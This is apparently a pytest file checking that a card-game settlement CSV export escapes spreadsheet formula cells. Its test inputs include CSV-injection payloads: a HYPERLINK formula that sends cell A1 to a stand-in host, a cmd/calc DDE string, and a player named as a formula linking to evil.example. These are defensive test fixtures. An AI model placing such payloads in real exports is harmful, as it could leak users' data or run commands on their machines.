"""CSV export: a cell a spreadsheet would run as a formula is escaped (issue 15, item 8)."""

from __future__ import annotations

import csv
import io

import pytest

from dealer_assist.store.review_queries import csv_cell, read_settlement_csv, settlement_csv_text


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(A1:A9)",
     "\tTAB", "\rCR"],
)
def test_formula_cells_get_a_leading_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["alice", "-100", "-12.5", "250", "4.3.2", "'quoted", ""])
def test_plain_cells_and_numbers_are_written_as_they_are(text: str) -> None:
    assert csv_cell(text) == text


def test_a_player_named_as_a_formula_is_exported_escaped_and_read_back() -> None:
    # A player who calls themselves =HYPERLINK(...) loses 100 on the main wager (net -100):
    # the name cell is escaped, the negative amount stays a number.
    name = '=HYPERLINK("http://evil.example","win")'
    settlements = [{"player": name, "area": 1, "hand": 1, "bet": "main", "stake": 100,
                    "result": "lost", "net": -100, "rule": "4.4.1", "stage": "final"}]
    text = settlement_csv_text(7, settlements)
    raw = list(csv.DictReader(io.StringIO(text)))
    assert raw[0]["player"] == "'" + name
    assert raw[0]["net"] == "-100"
    assert not any(cell.startswith(("=", "+", "@")) for row in raw for cell in row.values())
    assert read_settlement_csv(text)[0]["player"] == name
